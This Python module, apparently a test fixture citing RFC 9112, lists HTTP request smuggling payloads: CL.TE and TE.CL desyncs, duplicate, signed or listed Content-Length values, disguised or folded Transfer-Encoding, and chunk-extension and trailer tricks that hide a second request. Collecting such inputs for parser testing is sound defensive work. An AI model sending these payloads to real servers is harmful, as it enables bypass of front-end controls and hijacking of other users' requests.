"""Requests that hide another one, if two readers of HTTP disagree where the first one ends.

Source: RFC 9112, 5.2 (folded fields), 6.3 (lengths), 7.1 (chunks) and 11.2 (request smuggling).
"""

NEXT = b"GET /v1/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
POST = b"POST /v1/size-conductor HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
ZERO = b"0\r\n\r\n"
ATTACKS = {
    "CL.TE": POST
    + b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(ZERO + NEXT)
    + ZERO
    + NEXT,
    "TE.CL": POST
    + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n" % len(NEXT)
    + NEXT
    + b"\r\n"
    + ZERO,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
    "a list of lengths": POST + b"Content-Length: 0, %d\r\n\r\n" % len(NEXT) + NEXT,
    "a signed length": POST + b"Content-Length: +%d\r\n\r\n" % len(NEXT) + NEXT,
    "a length with a blank in its name": POST + b"Content-Length : %d\r\n\r\n" % len(NEXT) + NEXT,
    "two codings": POST
    + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n"
    + ZERO
    + NEXT,
    "a coding in disguise": POST
    + b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n" % len(NEXT)
    + NEXT,
    "a coding behind a tab": POST
    + b"Transfer-Encoding:\x0bchunked\r\nContent-Length: %d\r\n\r\n" % len(ZERO + NEXT)
    + ZERO
    + NEXT,
    "a coding folded": POST
    + b"Content-Length: %d\r\nTransfer-Encoding:\r\n chunked\r\n\r\n" % len(ZERO + NEXT)
    + ZERO
    + NEXT,
    "a field folded": POST + b"X-Folded: a\r\n b\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
    "a chunk extension": POST
    + b'Transfer-Encoding: chunked\r\n\r\n%x;a="' % len(NEXT)
    + b"b" * 50
    + b'"\r\n'
    + NEXT
    + b"\r\n"
    + ZERO,
    "a chunk extension with a bare line feed": POST
    + b"Transfer-Encoding: chunked\r\n\r\n%x;\n" % len(NEXT)
    + NEXT
    + b"\r\n"
    + ZERO,
    "a chunk size too large": POST
    + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"
    + NEXT,
    "a trailer": POST
    + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nContent-Length: %d\r\n\r\n" % len(NEXT),
}
